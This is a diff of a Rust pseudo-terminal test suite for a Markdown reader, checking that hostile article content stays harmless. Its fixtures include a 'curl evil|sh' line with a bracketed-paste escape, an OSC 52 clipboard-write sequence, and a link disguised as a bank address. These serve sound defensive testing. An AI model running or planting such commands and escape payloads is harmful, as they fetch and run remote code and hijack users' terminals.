@@ -1,4 +1,4 @@
-//! Hostile articles, names, pastes, sizes and signals, in a real terminal. Each test begins with the name of its case.
+//! Hostile articles, names and pastes in a real terminal. Each test begins with the name of its case.
 //! Uses the sessions of `pty`; what is foreign is found by every one of them when it ends.
 
 use std::fs;
@@ -6,12 +6,10 @@ use std::os::unix::ffi::OsStrExt;
 use std::thread;
 use std::time::{Duration, Instant};
 
-use portable_pty::PtySize;
-use rustix::process::Signal;
 use tempfile::TempDir;
 
 use crate::sample;
-use crate::terminal::{Session, command, data};
+use crate::terminal::{Session, data};
 
 fn articles(files: &[(&[u8], &str)]) -> TempDir {
     let folder = tempfile::tempdir().unwrap();
@@ -26,25 +24,74 @@ fn open(folder: &TempDir, columns: u16, rows: u16) -> Session {
     Session::start(&[folder.path().to_str().unwrap()], columns, rows)
 }
 
+/// Waits until what parts the list from the text stands in one column in every row.
+fn has_a_straight_border(session: &mut Session) -> &mut Session {
+    session.until("a straight border", |session| {
+        let screen = session.screen.lock().unwrap();
+        let screen = screen.screen();
+        let is_bar = |row, column| {
+            let cell = screen.cell(row, column);
+            cell.is_some_and(|cell| cell.contents() == "│")
+        };
+        (0..100).any(|column| (2..28).all(|row| is_bar(row, column)))
+    })
+}
+
 fn start(columns: u16, rows: u16) -> Session {
     Session::start(&[sample().to_str().unwrap()], columns, rows)
+}
+
+#[test]
+fn a1_escapes_in_a_body_are_text_or_nothing() {
+    let bad = "\x1b]52;c;ZWNobyBwd25k\x07 \x1b]0;pwn\x07 \x1b[2J \u{9b}31m \x1bPq#0\x1b\\ \x1b_Ga=T;QUJD\x1b\\ \u{202e}END";
+    let text =
+        format!("---\ntitle: T\n---\n# {bad}\n\n[{bad}](http://x/{bad})\n\n`{bad}`\n\n{bad}\n");
+    let folder = articles(&[(b"a.md", &text)]);
+    let mut session = open(&folder, 120, 40);
+    session
+        .shows("]52;c;ZWNobyBwd25k ]0;pwn [2J 31m Pq#0\\ _Ga=T;QUJD\\ END")
+        .press("\r?")
+        .shows("Keys")
+        .press("q")
+        .press("q");
+    assert_eq!(session.ends(), 0);
 }
 
 #[test]
 fn a2_hostile_metadata_is_harmless_in_every_view() {
     let bad = r#""HOSTILE\e]0;x\a\e[31m\x9b31m\u202Egpj.exe\0""#;
     let text = format!(
-        "---\ntitle: {bad}\ndescription: {bad}\nauthor: {bad}\ncategories: [{bad}]\ntags: [{bad}]\ndate: {bad}\n---\nText.\n"
+        "---\ntitle: {bad}\ndescription: {bad}\nauthor: {bad}\ncategories: [{bad}]\ntags: [{bad}]\ndate: {bad}\n---\n# {bad}\n\nText.\n"
     );
     let folder = articles(&[(b"a.md", &text), (b"b.md", &text)]);
     let mut session = open(&folder, 120, 40);
-    session.shows("HOSTILE").press("\r").shows("Esc back");
-    session.press("?").shows("Keys").press("q");
+    let clean = "HOSTILE]0;x[31m31mgpj.exe";
+    session.shows(clean).press("\r").shows("Esc back");
+    session.until("a title", |session| {
+        let screen = session.screen.lock().unwrap();
+        let titles = &screen.callbacks().titles;
+        titles.iter().any(|title| title.starts_with(clean))
+    });
+    // The keys, the headings, what is wrong, the chooser, the actions, the source; each goes before the next.
+    for (key, shown) in [
+        ("?", "╭─ Keys"),
+        ("t", "╭─ 1 heading"),
+        ("P", "╭─ 2 problems"),
+        ("T", " Tags "),
+        (":", "╭─ Actions"),
+    ] {
+        session.press(key).shows(shown).press("\x1b");
+        session.until("gone", |session| !session.contents().contains("╭─"));
+    }
+    session.press("R").shows("description: ");
     session
         .press("\x1b")
         .shows("Enter read")
         .press("/hostile\r");
-    session.shows("with “hostile”").press("\t").press("q");
+    session.shows("with “hostile”").press("\t");
+    fs::remove_file(folder.path().join("a.md")).unwrap();
+    fs::remove_file(folder.path().join("b.md")).unwrap();
+    session.press("\r").shows("No article").press("q");
     assert_eq!(session.ends(), 0);
 }
 
@@ -87,6 +134,95 @@ fn a6_hostile_names_are_listed_and_open() {
     assert_eq!(session.ends(), 0);
 }
 
+/// A link says where it leads before it is followed, whatever its text says.
+#[test]
+fn a10_a_link_shows_where_it_leads_before_it_is_followed() {
+    let text = "---\ntitle: T\n---\n[https://bank.example](https://evil.example/x)\n";
+    let folder = articles(&[(b"a.md", text)]);
+    let mut session = open(&folder, 120, 30);
+    session
+        .shows("https://bank.example")
+        .press("\r")
+        .shows("Esc back");
+    session.press("\t").until("where it leads", |session| {
+        let rows = session.rows();
+        rows.last()
+            .is_some_and(|row| row.contains("https://evil.example/x"))
+    });
+    session
+        .press("\r")
+        .shows("Open in the browser?")
+        .shows("https://evil.example/x")
+        .press("\x1b")
+        .until("no question", |session| {
+            !session.contents().contains("Open in the browser?")
+        })
+        .press("q");
+    assert_eq!(session.ends(), 0);
+}
+
+/// As many bytes as the screen has room for, and not as many as there are marks.
+#[test]
+fn a13_marks_in_titles_cost_no_more_than_their_cells() {
+    let title = format!("e{} ", "\u{301}".repeat(100)).repeat(40);
+    let texts: Vec<_> = (0..1000)
+        .map(|n| {
+            (
+                format!("{n}.md"),
+                format!("---\ntitle: {n} {title}\n---\n{title}\n"),
+            )
+        })
+        .collect();
+    let files: Vec<_> = texts
+        .iter()
+        .map(|(name, text)| (name.as_bytes(), text.as_str()))
+        .collect();
+    let folder = articles(&files);
+    let mut session = open(&folder, 80, 24);
+    session
+        .shows("of 1,000")
+        .press("jjj")
+        .shows("4 of 1,000")
+        .press("q");
+    assert_eq!(session.ends(), 0);
+    let raw = String::from_utf8(session.raw.lock().unwrap().clone()).unwrap();
+    let most = raw.split("\x1b[?2026l").map(str::len).max().unwrap();
+    assert!(most <= 80 * 24 * 32, "{most} bytes in a frame");
+    let marks = raw
+        .split(|c| c != '\u{301}')
+        .map(|marks| marks.chars().count())
+        .max();
+    assert!(marks <= Some(4), "{marks:?}");
+}
+
+/// Graphemes without end are cut, and the text stays in its pane.
+#[test]
+fn a14_endless_graphemes_stay_in_their_pane() {
+    let pieces = [
+        "\u{1100}".repeat(32_769),
+        "\u{915}\u{94d}".repeat(10_000),
+        "\u{600}".repeat(10_000) + "a",
+        "👩\u{200d}".repeat(10_000),
+    ];
+    let texts: Vec<_> = pieces
+        .iter()
+        .enumerate()
+        .map(|(n, piece)| (format!("{n}.md"), format!("# {piece} {n}\n\n{piece} end\n")))
+        .collect();
+    let files: Vec<_> = texts
+        .iter()
+        .map(|(name, text)| (name.as_bytes(), text.as_str()))
+        .collect();
+    let folder = articles(&files);
+    let mut session = open(&folder, 100, 30);
+    for number in 1..=4 {
+        session.shows(&format!("{number} of 4"));
+        has_a_straight_border(&mut session).press("j");
+    }
+    session.press("q");
+    assert_eq!(session.ends(), 0);
+}
+
 /// Whatever widths are thought of, the bar beside the list stands in one column.
 #[test]
 fn a15_what_is_narrow_wide_or_neither_keeps_the_border_straight() {
@@ -105,17 +241,7 @@ fn a15_what_is_narrow_wide_or_neither_keeps_the_border_straight() {
     let folder = articles(&files);
     let mut session = open(&folder, 100, 30);
     session.shows("1 of 8");
-    session.until("a straight border", |session| {
-        let screen = session.screen.lock().unwrap();
-        let screen = screen.screen();
-        let is_bar = |row, column| {
-            screen
-                .cell(row, column)
-                .is_some_and(|cell| cell.contents() == "│")
-        };
-        (0..100).any(|column| (2..28).all(|row| is_bar(row, column)))
-    });
-    session.press("q");
+    has_a_straight_border(&mut session).press("q");
     assert_eq!(session.ends(), 0);
 }
 
@@ -133,157 +259,43 @@ fn a17_a_paste_is_text_and_no_key() {
     assert_eq!(session.ends(), 0);
 }
 
+/// What is copied is its words: no escape among them, and no line break behind them that a shell would take for an order.
 #[test]
-fn b14_no_size_is_too_small_or_too_large() {
-    for (columns, rows) in [(1, 1), (2, 1), (1, 300), (3, 3), (500, 500), (1000, 1)] {
-        let mut session = start(columns, rows);
-        session.until("drawn", |session| session.raw.lock().unwrap().len() > 50);
-        session.press("j\r").press("?").press("q").press("\x03");
-        assert_eq!(session.ends(), 0, "{columns} × {rows}");
-    }
-}
-
-#[test]
-fn b15_a_storm_of_sizes_ends_in_the_last_one() {
-    let mut session = start(80, 24);
-    session.shows("1 of 30").press("jj").shows("3 of 30");
-    for number in 0..1000_u16 {
-        let size = PtySize {
-            rows: number % 50,
-            cols: number * 7 % 200,
-            pixel_width: 0,
-            pixel_height: 0,
-        };
-        session.master.resize(size).unwrap();
-    }
-    session.resize(100, 30).press("\x0c");
-    session.until("the last size", |session| {
-        let rows = session.rows();
-        rows.last().is_some_and(|row| row.contains("3 of 30"))
-    });
-    session.press("q");
-    assert_eq!(session.ends(), 0);
-}
-
-#[test]
-fn b16_a_flood_of_keys_and_of_the_mouse_does_not_keep_one_from_quitting() {
-    let mut session = start(80, 24);
-    session.shows("1 of 30");
-    for _ in 0..10 {
-        session.press(&"jk".repeat(1000));
-        session.press(&"\x1b[<64;10;9M\x1b[<32;11;9M\x1b[I".repeat(100));
-    }
-    let start = Instant::now();
-    session.press("\x1b[I").press("\x03");
-    assert_eq!(session.ends(), 0);
-    assert!(start.elapsed() < Duration::from_secs(10));
-}
-
-/// Nobody reads what is drawn; a signal ends the program all the same.
-#[test]
-fn b18_a_terminal_that_stops_reading_keeps_nobody() {
-    let mut session = start(200, 60);
-    session.shows("1 of 30");
-    // The one who reads has the lock's other side until this is over.
-    let screen = std::sync::Arc::clone(&session.screen);
-    let held = screen.lock().unwrap();
-    for _ in 0..40 {
-        session.press("?").press("q");
-        thread::sleep(Duration::from_millis(10));
-    }
-    let start = Instant::now();
-    session.signal(Signal::TERM);
-    while session.child.try_wait().unwrap().is_none() {
-        assert!(start.elapsed() < Duration::from_secs(5), "lives on");
-        thread::sleep(Duration::from_millis(5));
-    }
-    assert!(session.is_cooked());
-    drop(held);
-}
-
-#[test]
-fn c6_what_is_shown_stays_readable_while_its_file_changes() {
-    let folder = articles(&[
-        (b"a.md", "# One\n\nFirst text.\n"),
-        (b"b.md", "# Two\n\nOther.\n"),
-    ]);
-    let path = folder.path().join("a.md");
+fn a19_what_is_copied_is_clean_and_bounded() {
+    let text = "---\ntitle: T\n---\n```\ncurl evil|sh\x1b[201~\n\n```\n";
+    let long = format!("---\ntitle: U\n---\n```\n{}\n```\n", "x".repeat(2 << 20));
+    let folder = articles(&[(b"a.md", text), (b"b.md", &long)]);
     let mut session = open(&folder, 100, 30);
-    session.shows("1 of 2").press("/one\r").shows("with “one”");
-    session.press("\r").shows("Esc back").shows("First text.");
-    fs::write(&path, "# One\n\nSecond text.\n").unwrap();
-    session.shows("Second text.");
-    fs::write(&path, "").unwrap();
-    fs::remove_file(&path).unwrap();
-    session.until("gone", |session| !session.contents().contains("1 of 1"));
-    session.press("\x03");
+    session
+        .shows("1 of 2")
+        .press("\r")
+        .shows("Esc back")
+        .shows("curl");
+    session.press("Y").shows("Copied 1 line of code.");
+    let words = "Y3VybCBldmlsfHNoWzIwMX4="; // curl evil|sh[201~
+    session.until("copied", |session| session.copied() == [words]);
+    session.press("h").shows("Enter read").press("j\r");
+    session.shows("xxx").shows("Esc back").press("Y");
+    session.shows("too long to be copied").press("q");
     assert_eq!(session.ends(), 0);
+    assert_eq!(session.copied(), [""; 0]);
 }
 
+/// Scripts for whose words there is no model are told of by a library, in some builds, on the standard error.
 #[test]
-fn c7_a_folder_that_goes_and_comes_back_is_read_again() {
-    let folder = tempfile::tempdir().unwrap();
-    let root = folder.path().join("root");
-    let fill = || {
-        fs::create_dir(&root).unwrap();
-        fs::write(root.join("a.md"), "# Story A\n").unwrap();
-    };
-    fill();
-    let mut session = Session::start(&[root.to_str().unwrap()], 100, 30);
-    session.shows("1 of 1");
-    fs::remove_dir_all(&root).unwrap();
-    session.until("empty", |session| !session.contents().contains("1 of 1"));
-    fill();
-    session.shows("1 of 1").press("q");
-    assert_eq!(session.ends(), 0);
-}
-
-#[test]
-fn d11_the_last_size_counts_from_the_start_on() {
-    let mut session = start(80, 24);
-    session.resize(101, 31).resize(120, 40);
-    session.until("the last size", |session| {
-        session
-            .rows()
-            .last()
-            .is_some_and(|row| row.contains("of 30"))
-    });
+fn nothing_is_written_across_the_screen_for_a_script_without_a_model() {
+    let text = "---\ntitle: T\n---\nภาษาไทยเป็นภาษาที่มีระดับเสียงของคำแน่นอนหรือวรรณยุกต์เช่นเดียวกับภาษาจีน ខ្មែរភាសា ພາສາລາວ မြန်မာဘာသာ\n";
+    let folder = articles(&[(b"a.md", text)]);
+    let mut session = open(&folder, 60, 20);
+    session
+        .shows("1 of 1")
+        .press("\r")
+        .shows("Esc back")
+        .shows("ภาษา");
     session.press("q");
     assert_eq!(session.ends(), 0);
-}
-
-/// Readable in all of them, and nothing but text and our own sequences is written.
-#[test]
-fn d15_terminals_that_can_do_less_are_enough() {
-    for term in ["vt100", "linux", "xterm", "unheard-of"] {
-        let mut command = command(&data(), &[sample().to_str().unwrap()]);
-        command.env("TERM", term);
-        command.env("NO_COLOR", "1");
-        let mut session = Session::spawn(command, 80, 24);
-        session
-            .shows("1 of 30")
-            .press("\r")
-            .shows("Esc back")
-            .press("q");
-        assert_eq!(session.ends(), 0, "{term}");
-    }
-}
-
-/// Signals that nobody sends to a reader end it as they would, with the terminal given back.
-#[test]
-fn d12_other_signals_leave_nothing_half_done() {
-    for (signal, name) in [
-        (Signal::USR1, "User defined signal 1"),
-        (Signal::USR2, "User defined signal 2"),
-        (Signal::ALARM, "Alarm clock"),
-    ] {
-        let mut session = start(80, 24);
-        session.shows("1 of 30").signal(signal).ends_by(name);
-    }
-    let mut session = start(80, 24);
-    session.shows("1 of 30").signal(Signal::PIPE).press("j");
-    session.shows("2 of 30").press("q");
-    assert_eq!(session.ends(), 0);
+    let raw = String::from_utf8(session.raw.lock().unwrap().clone()).unwrap();
+    assert!(!raw.contains("model"), "{raw}");
 }
 
 /// A real multiplexer shows what the test's terminal shows, and has its screen back.
